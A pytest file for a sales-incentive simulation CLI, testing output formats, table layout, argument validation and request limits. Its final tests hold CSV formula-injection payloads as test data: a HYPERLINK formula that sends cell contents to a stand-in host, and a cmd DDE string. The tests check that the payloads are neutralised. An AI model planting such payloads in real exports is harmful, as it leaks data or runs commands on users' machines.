"""One way to choose output across commands: --format/--out (inferred from the ending), workbooks, narrow
tables, progress defaults, arguments checked before simulating, and the request limits of the Python API."""

from __future__ import annotations

import json

import pandas as pd
import pytest
from conftest import DEFAULT, run_cli, small_scenario_dict, write_yaml
from openpyxl import load_workbook

from simlib.cli import build_parser, main
from simlib.cli.args import narrow, progress_on


def cli(capsys, *args):
    return run_cli(capsys, *args)


@pytest.fixture(scope="module")
def small_yaml(tmp_path_factory):
    return write_yaml(tmp_path_factory.mktemp("s") / "small.yaml", small_scenario_dict())


RUN = ("--trials", 12, "--seed", 4, "--behaviour", "none", "--scheduler", "serial")


def test_run_workbook_has_numeric_cells_with_formats(small_yaml, tmp_path, capsys):
    out = tmp_path / "run.xlsx"
    code, text, _ = cli(capsys, "run", small_yaml, *RUN, "--out", out)
    assert code == 0 and f"wrote {out}" in text and "== total ==" in text  # the file, and the table on screen
    wb = load_workbook(out)
    assert wb.sheetnames == ["long", "levels", "differences", "provenance"]
    ws = wb["levels"]
    head = [c.value for c in ws[1]]
    col = {h: i for i, h in enumerate(head)}
    rows = list(ws.iter_rows(min_row=2))
    profit = next(r for r in rows if r[col["metric"]].value == "profit" and r[col["group"]].value == "total")
    share = next(r for r in rows if r[col["metric"]].value == "share_at_quota" and r[col["group"]].value == "total")
    assert profit[col["mean"]].data_type == "n" and isinstance(profit[col["mean"]].value, float)
    assert profit[col["mean"]].number_format == "#,##0" and share[col["mean"]].number_format == "0.0%"
    assert ws[1][0].font.bold and ws.freeze_panes == "A2"
    # the same numbers as the JSON output of the same run
    code, js, _ = cli(capsys, "run", small_yaml, *RUN, "--format", "json")
    levels = pd.DataFrame(json.loads(js)["summary"])
    want = levels[(levels.plan == "current") & (levels.group == "total") & (levels.metric == "profit")]["mean"].iloc[0]
    got = next(r for r in rows if r[col["metric"]].value == "profit" and r[col["group"]].value == "total"
               and r[col["plan"]].value == "current")[col["mean"]].value
    assert got == pytest.approx(want, rel=1e-12)


def test_csv_to_file_is_what_stdout_gets(small_yaml, tmp_path, capsys):
    code, stdout_csv, _ = cli(capsys, "run", small_yaml, *RUN, "--format", "csv")
    assert code == 0
    code, _, _ = cli(capsys, "run", small_yaml, *RUN, "--out", tmp_path / "r.csv")
    assert code == 0 and (tmp_path / "r.csv").read_text() == stdout_csv
    assert list(pd.read_csv(tmp_path / "r.csv").columns[:5]) == ["kind", "plan", "reference", "group", "metric"]


@pytest.mark.parametrize("args, words", [
    (["--format", "xlsx"], "--format xlsx needs --out FILE.xlsx"),
    (["--out", "r.json", "--format", "csv"], "--format csv writes a .csv file"),
    (["--out", "r.txt"], "expected a file ending in .csv, .json, .xlsx"),
    (["--out", "r.csv", "--format", "table"], "the table is printed"),
    (["--group", "nobody"], "'nobody' is not a role of the scenario"),
])
def test_output_and_group_refused_before_simulating(args, words, small_yaml, tmp_path, capsys, monkeypatch):
    import simlib.engine.api

    def boom(*a, **k):
        raise AssertionError("simulated before checking the arguments")

    monkeypatch.setattr(simlib.engine.api, "simulate", boom)
    monkeypatch.chdir(tmp_path)
    code, _, err = cli(capsys, "run", small_yaml, *RUN, *args)
    assert code == 1 and words in err, err


def test_sweep_group_checked_before_the_sweep(small_yaml, capsys, monkeypatch):
    import simlib.cli.sweep

    monkeypatch.setattr(simlib.cli.sweep, "run_sweep", lambda *a, **k: pytest.fail("swept before checking --group"))
    code, _, err = cli(capsys, "sweep", small_yaml, "--param", "cap=1.5,2", "--group", "nobody")
    assert code == 1 and "'nobody' is not a role" in err


def test_sweep_and_optimize_workbooks(small_yaml, tmp_path, capsys):
    code, _, _ = cli(capsys, "sweep", small_yaml, "--param", "target_level=0.9,1.1", *RUN, "--out", tmp_path / "s.xlsx")
    assert code == 0
    ws = load_workbook(tmp_path / "s.xlsx")["sweep"]
    head = [c.value for c in ws[1]]
    assert {"point", "target_level", "group", "metric", "mean", "diff"} <= set(head)
    cells = {(r[head.index("metric")].value, r[head.index("group")].value): r[head.index("mean")]
             for r in ws.iter_rows(min_row=2)}
    assert cells[("revenue", "total")].number_format == "#,##0" and cells[("share_120", "total")].number_format == "0.0%"
    code, text, _ = cli(capsys, "optimize", small_yaml, "--param", "target_level=0.9:1.1", "--starts", 2,
                        "--maxiter", 0, "--no-sensitivity", *RUN, "--constraint", "share_at_quota>=0.99",
                        "--out", tmp_path / "o.xlsx")
    assert code == 1 and "VIOLATED" in text  # no plan of this range puts 99% of reps at quota
    wb = load_workbook(tmp_path / "o.xlsx")
    assert wb.sheetnames[:4] == ["optimum", "constraints", "metrics", "differences"] and "history" in wb.sheetnames
    cons = wb["constraints"]
    head = [c.value for c in cons[1]]
    assert cons[2][head.index("state")].value == "VIOLATED" and cons[2][head.index("value")].data_type == "n"


def test_check_writes_its_table_as_a_workbook(small_yaml, tmp_path, capsys):
    code, text, _ = cli(capsys, "check", small_yaml, *RUN, "--out", tmp_path / "c.xlsx")
    assert code in (0, 1) and ("PASS" in text or "FAIL" in text) and "wrote" in text
    ws = load_workbook(tmp_path / "c.xlsx")["checks"]
    head = [c.value for c in ws[1]]
    assert {"plan", "metric", "p_breach", "status"} <= set(head)
    assert ws[2][head.index("p_breach")].data_type == "n"


def test_run_table_fits_100_columns(capsys):
    code, text, _ = cli(capsys, "run", DEFAULT, "--trials", 8, "--behaviour", "none", "--scheduler", "serial")
    assert code == 0
    assert max(map(len, text.splitlines()[2:])) <= 100  # every line of the tables (the provenance line may be long)
    assert "differences vs current (paired):" in text and "Δ one plan for all" in text
    paired = text.split("differences vs current (paired):")[1].split("model diagnostics")[0]
    assert "Incentive cost, bad year" not in paired  # no row left blank: quantiles have no paired difference
    assert "(no paired difference for incentive cost, bad year (95th pct.);" in paired


def test_narrow_splits_columns_and_repeats_the_index():
    df = pd.DataFrame({f"plan_{i}": ["1,234,567 ± 12,345"] * 3 for i in range(6)},
                      index=pd.Index(["revenue", "profit", "incentive_cost"], name="metric"))
    text = narrow(df, width=70)
    assert max(map(len, text.splitlines())) <= 70
    assert text.count("incentive_cost") == 3 and all(f"plan_{i}" in text for i in range(6))


def test_progress_on_a_terminal_only_unless_forced(monkeypatch):
    import sys

    p = build_parser()
    monkeypatch.setattr(sys.stderr, "isatty", lambda: False, raising=False)
    commands = (["run", "s.yaml"], ["sweep", "s.yaml"], ["optimize", "s.yaml"], ["report"],
                ["backtest", "h.csv", "--plan-after", "p"])
    for cmd in commands:
        assert progress_on(p.parse_args(cmd)) is False
        assert progress_on(p.parse_args([*cmd, "--progress"])) is True
    monkeypatch.setattr(sys.stderr, "isatty", lambda: True, raising=False)
    for cmd in commands:
        assert progress_on(p.parse_args(cmd)) is True
        assert progress_on(p.parse_args([*cmd, "--no-progress"])) is False


# ---------------------------------------------------------------------------
# the request limits hold in the Python API too
# ---------------------------------------------------------------------------


@pytest.fixture
def tiny_limits(monkeypatch):
    import simlib.engine.core as core

    monkeypatch.setattr(core, "MAX_REP_MONTHS", 1000.0)


def test_api_refuses_oversized_requests(small_scenario, tiny_limits):
    from simlib.design.optimize import optimize
    from simlib.design.sweep import run_sweep
    from simlib.engine.api import simulate, simulate_ensemble
    from simlib.engine.core import RequestTooLarge

    for call in (lambda: simulate(small_scenario, trials=50),
                 lambda: simulate_ensemble(small_scenario, behaviour_draws=2, trials=50),
                 lambda: run_sweep(small_scenario, {"cap": [1.5, 2.0]}, trials=50),
                 lambda: optimize(small_scenario, {"target_level": (0.9, 1.1)}, trials=50)):
        with pytest.raises(RequestTooLarge, match="rep-months.*--allow-large"):
            call()
    res = simulate(small_scenario, ["current"], trials=4, behaviour="none", allow_large=True)
    assert res.provenance["trials"] == 4
    df = run_sweep(small_scenario, {"cap": [1.5]}, trials=4, behaviour="none", allow_large=True)
    assert df["point"].nunique() == 1


def test_headcount_too_large_for_memory_is_refused_up_front(small_scenario, monkeypatch):
    import simlib.engine.core as core
    from simlib.engine.api import simulate

    monkeypatch.setattr(core, "memory_size", lambda: 1e5)  # a machine of 100 kB
    with pytest.raises(core.RequestTooLarge, match=r"headcount 22: .* GB of memory.*--allow-large"):
        simulate(small_scenario, trials=4)
    code = main(["run", str(DEFAULT), "--trials", "4"])
    assert code == 1
    core.check_request(small_scenario, 4, 2, allow_large=True)  # the override


def test_run_tables_write_each_money_row_on_one_scale():
    import re

    import simlib
    from simlib.cli.run import readable_tables

    scen = simlib.load_scenario(DEFAULT)
    res = simlib.simulate(scen, trials=8, rng=0, behaviour="none")
    main_table, _ = readable_tables(res, "total", scen.currency)
    money = re.compile(r"[-+]?[\d,.]+ (?:(k|M) )?EUR")
    rows = 0
    for label, row in main_table.iterrows():
        for cols in ([c for c in row.index if not c.startswith("Δ ")], [c for c in row.index if c.startswith("Δ ")]):
            suffixes = {m.group(1) for c in cols if (m := money.match(row[c])) and not row[c].startswith("0 EUR")}
            assert len(suffixes) <= 1, (label, list(row[cols]))  # levels, and changes, of a row on one scale
            rows += bool(suffixes)
    assert rows >= 10


def test_sweep_prints_a_readable_narrow_table_and_csv_keeps_the_tidy_numbers(small_yaml, tmp_path, capsys):
    code, text, _ = cli(capsys, "sweep", small_yaml, "--param", "target_level=0.9,1.1", "--param", "cap=1.5,none", *RUN)
    assert code == 0
    table = text.splitlines()[2:]
    assert max(map(len, table)) <= 100  # bounded width: further columns go to further blocks
    assert "Profit" in text and "Δ Reps at or above quota" in text and "profit" not in "\n".join(table)
    assert " M EUR ±" in text or " k EUR ±" in text  # money in the scenario's currency, scaled
    assert "% ±" in text and " pp" in text and "none" in text and "NaN" not in text
    code, csv_text, _ = cli(capsys, "sweep", small_yaml, "--param", "target_level=0.9,1.1", *RUN, "--format", "csv")
    frame = pd.read_csv(pd.io.common.StringIO(csv_text))
    assert {"point", "target_level", "group", "metric", "mean", "se", "diff"} <= set(frame.columns)


def test_optimize_prints_parameters_with_sensible_precision_and_their_meaning(small_yaml, capsys):
    code, text, _ = cli(capsys, "optimize", small_yaml, "--param", "target_level=0.9:1.1", "--param", "cap=1.5:3",
                        "--starts", 1, "--maxiter", 3, "--no-sensitivity", *RUN)
    assert code == 0
    lines = {ln.split(" = ")[0].strip(): ln for ln in text.splitlines() if " = " in ln and "searched" in ln}
    assert set(lines) == {"target_level", "cap"}
    value = lines["cap"].split(" = ")[1].split()[0]
    assert len(value.replace(".", "").lstrip("0")) <= 3  # three significant digits, not 1.86753
    assert "(searched 1.5 to 3" in lines["cap"] and "cap of revenue pay curves" in lines["cap"]
    assert "quota level" in lines["target_level"]


def test_backtest_table_reads_in_the_scenarios_currency_and_percent_to_the_precision_it_has():
    # `simlib backtest` printed "revenue 36,708,357 41,608,631 [31,838,347, 50,636,819] ... +150,919 ± 40,421" and
    # "mean_attainment 1.04": no currency, eight digits on a number known to ± 20%, attainment as a bare fraction
    from simlib.cli.backtest import format_backtest

    f = pd.DataFrame([
        dict(group="key_account", metric="revenue", actual=36_708_357.0, predicted=41_608_631.0, lo=31_838_347.0,
             hi=50_636_819.0, inside=True, predicted_change=150_919.0, predicted_change_se=20_623.0,
             actual_change=-4_599_246.0),
        dict(group="key_account", metric="payout_per_rep", actual=60_803.0, predicted=66_854.0, lo=47_194.0,
             hi=85_288.0, inside=True, predicted_change=-7_718.0, predicted_change_se=91.0, actual_change=-12_315.0),
        dict(group="total", metric="mean_attainment", actual=0.892, predicted=0.996, lo=0.861, hi=1.13, inside=True,
             predicted_change=-0.11708, predicted_change_se=0.00052, actual_change=-0.221),
        dict(group="total", metric="share_at_quota", actual=0.290, predicted=0.428, lo=0.240, hi=0.615, inside=False,
             predicted_change=-0.1691, predicted_change_se=0.002, actual_change=-0.320)])
    text = format_backtest(f, 90, currency="USD")
    rows = {line.split("  ")[0].strip(): line for line in text.splitlines()}
    assert "key account" in text and "key_account" not in text and "mean_attainment" not in text
    assert max(map(len, text.splitlines())) <= 100  # in blocks of columns: a row is read over them
    rev = " ".join(line for line in text.splitlines() if "Revenue" in line)
    assert "36.7 M USD" in rev and "41.6 M USD" in rev and "31.8 M to 50.6 M" in rev
    assert "+151 k USD ± 40 k" in rev and "-4.60 M USD" in rev
    assert "36,708,357" not in text and "40,421" not in text
    att = " ".join(line for line in text.splitlines() if "Attainment, mean" in line)
    assert "89.2%" in att and "99.6%" in att and "-11.7 pp ± 0.1" in att and "-22.1 pp" in att
    assert "Reps at or above quota" in text and "NO" in text and rows


def test_sweep_and_check_tables_name_parameters_plans_and_groups_in_words(small_yaml, capsys):
    """The printed sweep's header reads ``Point  target level  cap``, not the command line's ``target_level``; the
    check table's headers are words and its plans and groups display names (``harder target``), as run's tables."""
    code, text, _ = cli(capsys, "sweep", small_yaml, "--param", "target_level=0.9,1.1", "--param", "cap@ts=1.5,none",
                        *RUN)
    assert code == 0
    table = "\n".join(text.splitlines()[2:])
    assert "target level" in table and "cap (ts)" in table and "Point" in table
    assert "target_level" not in table and "cap@ts" not in table and "point " not in table
    code, text, _ = cli(capsys, "check", DEFAULT, *RUN)  # plans harder_target, team_weighted, ...
    lines = text.splitlines()
    headers = " ".join(line for line in lines if "Status" in line or "Basis" in line or "Rule" in line)
    assert all(w in headers for w in ("Group", "Rule", "Value", "Allowed", "Basis", "Level", "Status")), headers
    table = [x for x in lines[2:] if not x.startswith(("FAIL:", "PASS:", "not judged"))]  # the verdict is a sentence
    assert "harder target:" in lines and max(map(len, table)) <= 100  # a section per plan, 100 columns
    from simlib import load_scenario

    scen = load_scenario(DEFAULT)
    ids = [i for i in scen.plans if "_" in i]
    body = "\n".join(lines[2:])  # the table and the verdict under it
    assert not [i for i in ids if i in body], body
    assert "harder target" in body and "team weighted" in body


def test_calibrate_table_shows_no_nan_for_a_parameter_without_a_template_value(capsys):
    # a market change has no template value: its row printed "nan" in the template column
    from types import SimpleNamespace

    from simlib.cli.calibrate import print_estimates
    from simlib.fit.calibrate import Estimate

    est = [Estimate("market.change.2025-2026", 0.0518, 0.0094, float("nan"), 180, 0.0364, 0.0673, 0.9, "", "normal"),
           Estimate("roles.telesales.ability_sd", 0.21, 0.02, 0.2, 120, 0.18, 0.24, 0.9, "", "bootstrap")]
    print_estimates(SimpleNamespace(estimates=est, notes=[], diagnostics={}))
    lines = capsys.readouterr().out.splitlines()
    row = next(x for x in lines if x.startswith("market.change"))
    assert "nan" not in row.lower() and row.split()[-1] == "-", row
    assert next(x for x in lines if x.startswith("ability_sd")).split()[-1] == "0.2000"  # under "telesales (roles..."


def test_sweep_table_of_many_parameters_stays_within_100_columns(small_yaml, capsys):
    # four parameters in words made the index alone ~80 wide: every block's header was 103+ columns
    code, text, _ = cli(capsys, "sweep", small_yaml, "--param", "target_level=0.9,1.1", "--param", "cap=1.5,none",
                        "--param", "scenario.market.growth_sd=0.05", "--param", "roles.*.quota.noise=0.1",
                        "--param", "team_weight=0.2", *RUN)
    assert code == 0
    table = text.splitlines()[2:]
    assert max(map(len, table)) <= 100, "\n".join(ln for ln in table if len(ln) > 100)
    # each point's parameter values are still printed once, in words, and every metric row names its point
    assert "target level" in text and "quota noise (every role)" in text and "market growth sd" in text
    assert "Δ Profit" in text and text.count("none") >= 2


def test_calibrate_table_has_units_fits_100_columns_and_says_what_a_bound_or_a_tight_interval_means(capsys):
    # the table was 118 columns wide with no units; quota.noise estimated at 0 printed "0 0.012 [0, 0.04]" as if
    # 0 +- 0.012, and talk minutes per call "4.000 0.000005204 [4.000, 4.000]", an interval of no width
    from types import SimpleNamespace

    from simlib.cli.calibrate import print_estimates
    from simlib.fit.calibrate import Estimate

    est = [Estimate("roles.key_account.production.deal_size_mean", 134552.4, 8918.0, 125000.0, 480, 117581.0,
                    149868.0, 0.9, "", "bootstrap"),
           Estimate("plans.current.roles.key_account.quota.noise", 0.0, 0.012, 0.15, 480, 0.0, 0.04, 0.9, "lower",
                    "bootstrap"),
           Estimate("roles.telesales.production.talk_minutes_per_call", 4.0000012, 0.000005204, 4.0, 1440,
                    3.9999926, 4.0000097, 0.9, "", "bootstrap"),
           Estimate("roles.telesales.new_hire_share", 0.1833, 0.03402, 0.2, 1440, 0.1275, 0.2513, 0.9, "", "binomial")]
    print_estimates(SimpleNamespace(estimates=est, notes=[], diagnostics={}), currency="USD")
    lines = capsys.readouterr().out.splitlines()
    assert max(map(len, lines)) <= 100, "\n".join(lines)
    text = "\n".join(lines)
    row = {}  # a parameter's cells over the blocks of columns
    for ln in lines:
        if ln.strip() and ln.split()[0] in ("production.deal_size_mean", "quota.noise",
                                            "production.talk_minutes_per_call", "new_hire_share"):
            row[ln.split()[0]] = row.get(ln.split()[0], "") + ln
    assert "USD per deal" in row["production.deal_size_mean"] and "134,552" in row["production.deal_size_mean"]
    assert "minutes per call" in row["production.talk_minutes_per_call"]
    assert "share" in row["new_hire_share"]
    # at its bound: no symmetric SE beside it, a one-sided interval and the words
    assert "0.012" not in row["quota.noise"] and "at lower bound" in row["quota.noise"] and "[0, 0.04" in text
    # an interval narrower than four significant digits shows the digits that separate its ends
    assert "[4.000, 4.000]" not in text and "[3.999993, 4.00001" in text


def test_reps_tables_fit_100_columns(small_yaml, capsys):
    # `simlib reps` printed its teams table 180 columns wide (example_org, accelerated)
    code, text, _ = cli(capsys, "reps", small_yaml, "--plan", "variant", *RUN[:4])
    lines = text.splitlines()[1:]
    assert code == 0 and "incentive cost, variant" in text and "attainment, current" in text
    assert max(map(len, lines)) <= 100, "\n".join(ln for ln in lines if len(ln) > 100)


def test_run_tables_name_plans_and_groups_in_words(capsys):
    """``simlib run`` printed its columns as the scenario's ids (``harder_target``, ``Δ team_weighted``) and its
    sections as ``== key_account ==`` where every other table reads the plan and role names in words."""
    from simlib import load_scenario

    scen = load_scenario(DEFAULT)
    code, text, _ = cli(capsys, "run", DEFAULT, *RUN)
    assert code == 0
    body = "\n".join(text.splitlines()[1:])  # the provenance line names the scenario file
    ids = [i for i in [*scen.plans, *scen.roles] if "_" in i]
    assert ids and not [i for i in ids if i in body], [i for i in ids if i in body]
    assert "Δ harder target" in body and "== key account ==" in body and "vs current" in body


def test_sweep_header_says_a_multiplier_parameter_is_one(capsys):
    # "--param commission_rate@channel=0.03" multiplies every tier's rate by 0.03, but the column read "commission
    # rate (channel)" over "0.03", as if the rate were 3%
    from simlib.cli.args import param_label

    assert param_label("commission_rate@channel") == "commission rate × (channel)"
    assert param_label("accelerator") == "accelerator ×"
    assert param_label("target_level") == "target level" and param_label("cap@ts") == "cap (ts)"  # values set as given
    code, text, _ = cli(capsys, "sweep", DEFAULT, "--param", "commission_rate@channel=0.03,1", *RUN)
    assert code == 0
    table = "\n".join(text.splitlines()[2:])
    assert "commission rate × (channel)" in table, table


def test_optimize_prints_an_optimum_to_the_precision_of_its_searched_range():
    # an optimum at quota level 1.0984 (searched 0.9 to 1.1) printed "target_level = 1.1" (three significant
    # digits of the value): the edge of the range, 0.2% of quota from what the search found; the sensitivity
    # table beside it read "1.098" (three significant digits of the range searched)
    from types import SimpleNamespace

    from simlib.cli.optimize import format_result

    r = SimpleNamespace(
        provenance=dict(base_plan="current", scenario="s", scenario_file="s.yaml", trials=10, seed_entropy=0,
                        behaviour="none", evaluations=5, objective={"profit": 1.0},
                        bounds={"target_level": (0.9, 1.1), "cap": (1.5, 3.0), "commission_rate": (0.5, 20.0)}),
        objective=1.0e6, objective_se=1.0e4, feasible=True,
        params={"target_level": 1.0984, "cap": 1.86753, "commission_rate": 10.04321},
        constraints=pd.DataFrame(), differences=pd.DataFrame(columns=["group", "metric"]), robustness=None,
        sensitivity=pd.DataFrame())
    lines = {ln.split(" = ")[0].strip(): ln for ln in format_result(r).splitlines() if "searched" in ln}
    assert lines["target_level"].split(" = ")[1].startswith("1.098 "), lines["target_level"]
    assert lines["cap"].split(" = ")[1].startswith("1.87 "), lines["cap"]
    assert lines["commission_rate"].split(" = ")[1].startswith("10.0 "), lines["commission_rate"]


EVIL_NAME = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_csv_outputs_neutralise_formula_text_and_keep_numbers(tmp_path):
    """A rep or team name such as '=HYPERLINK(...)' or '+cmd|...' was written verbatim into CSV files and opened as
    a formula in a spreadsheet. Text cells (and headers) starting with = + - @ TAB or CR get a leading single quote
    (OWASP); numbers, negative ones included, are written as numbers and read back equal."""
    import csv

    from simlib.cli.args import write_table
    from simlib.fit.history import write_history
    from simlib.io import csv_safe, csv_text

    df = pd.DataFrame({"rep_id": [EVIL_NAME, "-2+3", "@SUM(A1)", "\tx", "A-1", "-5"],
                       "team": ["+cmd|' /C calc'!A0", "North", "", None, "y", "z"],
                       "pay": [-1250.5, 3.0, 0.0, -0.25, 1e-9, -8.0], "n": [-3, 1, 2, 3, 4, 5]})
    for path, write in ((tmp_path / "t.csv", write_table), (tmp_path / "h.csv", write_history)):
        write(df, path)
        with open(path, newline="") as fh:
            rows = list(csv.reader(fh))
        assert [r[0] for r in rows[1:]] == ["'" + EVIL_NAME, "'-2+3", "'@SUM(A1)", "'\tx", "A-1", "-5"]
        assert [r[1] for r in rows[1:3]] == ["'+cmd|' /C calc'!A0", "North"]
        back = pd.read_csv(path)
        assert back["pay"].tolist() == df["pay"].tolist() and back["n"].tolist() == df["n"].tolist()
    assert df["rep_id"].iloc[0] == EVIL_NAME  # the caller's frame is left as it was
    assert csv_text("\rx") == "'\rx" and csv_text(-5.0) == -5.0 and csv_text("-5e3") == "-5e3"
    assert list(csv_safe(pd.DataFrame({"=x": [1]})).columns) == ["'=x"]  # a plan name is a column of some tables


def test_replay_csv_of_a_history_with_a_formula_rep_name_is_neutralised(tmp_path, capsys):
    """The same guard on a command's CSV, on stdout and with --out: replay's per-rep table names the rep."""
    import csv
    import io

    from simlib import load_scenario
    from simlib.fit.synth import synth_history

    scen_path = write_yaml(tmp_path / "s.yaml", small_scenario_dict())
    frame, _ = synth_history(load_scenario(scen_path), rng=2)
    frame.loc[frame["rep_id"] == frame["rep_id"].iloc[0], "rep_id"] = "=1+2"
    frame.to_csv(tmp_path / "h.csv", index=False)  # the analyst's own file, written without the guard
    code, out, _ = cli(capsys, "replay", scen_path, tmp_path / "h.csv", "--format", "csv")
    reps = [r["rep_id"] for r in csv.DictReader(io.StringIO(out))]
    assert code == 0 and "'=1+2" in reps and "=1+2" not in reps, reps
    cli(capsys, "replay", scen_path, tmp_path / "h.csv", "--out", tmp_path / "r.csv")
    assert (tmp_path / "r.csv").read_text() == out
